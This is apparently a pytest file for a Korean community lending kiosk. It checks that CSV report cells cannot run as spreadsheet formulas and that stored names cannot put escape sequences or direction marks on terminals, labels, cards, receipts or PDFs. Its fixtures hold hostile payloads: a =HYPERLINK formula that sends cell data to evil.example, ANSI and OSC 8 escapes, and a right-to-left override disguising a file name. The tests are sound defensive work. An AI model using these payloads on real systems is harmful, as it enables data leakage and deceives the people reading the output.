"""What leaves the kiosk cannot be turned against its reader: report CSV cells
never run as spreadsheet formulas, and names stored before today's entry rules
(or pulled from the platform) never put escape sequences or direction marks on
a terminal, a label, a card, a receipt or a report PDF."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import sqlite3

import pytest
from reportlab.pdfgen.canvas import Canvas

from hardware.card_pdf import CardSpec, render_card
from hardware.labels import LabelSpec, render_labels
from hardware.printing import Receipt, ReceiptLine, render_receipt_pdf
from hardware.report_pdf import render_report_pdf
from kiosk.calendar import SEOUL
from kiosk.cli import main
from kiosk.limits import has_forbidden_chars
from kiosk.services.reports import Reports

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
#: what a name may hold when it was stored before the entry rules existed
HOSTILE = "드릴\x1b[2J\x1b]8;;http://evil.example\x07링크\u202etxt.exe\x00"


def _legacy_name(kiosk, code: str, name: str) -> None:
    """Store ``name`` as old data or a platform pull would have, bypassing today's rules."""
    db = sqlite3.connect(kiosk.engine.url.database)
    with db:
        db.execute("UPDATE items SET name_ko = ? WHERE code = ?", (name, code))
    db.close()


def nanum(data, *args):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["--data-dir", str(data), "--lang", "en", *args])
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def centre(tmp_path):
    data = tmp_path / "data"
    assert nanum(data, "init", "--site", "GN01")[0] == 0
    return data


# -- CSV formula injection ---------------------------------------------------------------
def test_report_csv_cells_never_run_as_formulas(centre, tmp_path):
    for n, name in enumerate(FORMULAS, start=1):
        assert nanum(centre, "item", "add", "--", f"T-{n}", name)[0] == 0
    out = tmp_path / "report.csv"
    # The command's kiosk runs on the real clock and counts days in Seoul, whatever the machine's zone.
    today = dt.datetime.now(SEOUL).date()
    code, _out, err = nanum(centre, "report", "--from", (today - dt.timedelta(days=2)).isoformat(),
                            "--to", today.isoformat(),
                            "--out", str(tmp_path / "report.pdf"), "--csv", str(out))
    assert code == 0, err
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    names = [value for section, _key, value in rows if section == "never_borrowed"]
    assert sorted(names) == sorted("'" + f for f in FORMULAS)
    # Every cell a spreadsheet would evaluate is quoted; figures stay plain numbers.
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    figures = [value for section, key, value in rows if section == "activity_by_hour"]
    assert len(figures) == 24 and all(v == "0" for v in figures)


# -- terminals ---------------------------------------------------------------------------
def test_listings_never_print_escape_sequences(centre):
    from kiosk.services import open_kiosk

    assert nanum(centre, "item", "add", "T-1", "드릴")[0] == 0
    k = open_kiosk(centre)
    _legacy_name(k, "T-00001", HOSTILE)
    k.close()
    code, out, _err = nanum(centre, "items")
    assert code == 0 and "T-00001" in out and "링크" in out
    assert not has_forbidden_chars(out, multiline=True)


# -- documents -----------------------------------------------------------------------------
@pytest.fixture
def drawn(monkeypatch):
    """Every string reportlab is asked to draw, recorded on the way through."""
    seen: list[str] = []
    for name in ("drawString", "drawCentredString", "drawRightString"):
        original = getattr(Canvas, name)

        def record(self, x, y, text, *args, _original=original, **kwargs):
            seen.append(text)
            return _original(self, x, y, text, *args, **kwargs)
        monkeypatch.setattr(Canvas, name, record)
    return seen


def _clean(seen: list[str]) -> bool:
    return bool(seen) and not any(has_forbidden_chars(t) for t in seen)


def test_labels_draw_no_control_characters(drawn, tmp_path):
    render_labels([LabelSpec("T-00001", HOSTILE, "https://nanum.example.org/i/T-00001")],
                  tmp_path / "labels.pdf", site_name="강남\u202e센터")
    assert _clean(drawn), drawn


def test_cards_draw_no_control_characters(drawn, tmp_path):
    render_card(CardSpec(HOSTILE, "M-000001", "NKC1-" + "A" * 25, "강남\x1b[0m센터", "2027-01-01"),
                tmp_path / "card.pdf")
    assert _clean(drawn), drawn


def test_receipts_draw_no_control_characters(drawn, tmp_path):
    receipt = Receipt(heading="나눔센터 영수증", when="2026-03-10 10:00",
                      lines=(ReceiptLine(f"{HOSTILE} (T-00001)", "3월 17일까지 반납"),),
                      subheading="강남\u2066센터")
    render_receipt_pdf(receipt, tmp_path / "receipt.pdf")
    assert _clean(drawn), drawn
    # The same receipt as the text of its QR code, which a phone shows.
    from ui.receipt import receipt_text

    text = receipt_text(Receipt(heading="영수증", when="2026-03-10 10:00", lines=(),
                                sections=(("대여", receipt.lines),), subheading="강남\u2066센터"))
    assert "링크" in text and not has_forbidden_chars(text, multiline=True)


def test_report_pdf_draws_no_control_characters(drawn, make_kiosk, tmp_path):
    k, _clock = make_kiosk()
    k.catalogue.add_item("T-1", "드릴")
    _legacy_name(k, "T-00001", HOSTILE)
    report = Reports(k).build(dt.date(2026, 3, 1), dt.date(2026, 3, 10))
    render_report_pdf(report, tmp_path / "report.pdf", "en", site_name="<b>강남</b>\x1b[0m")
    assert _clean(drawn), drawn
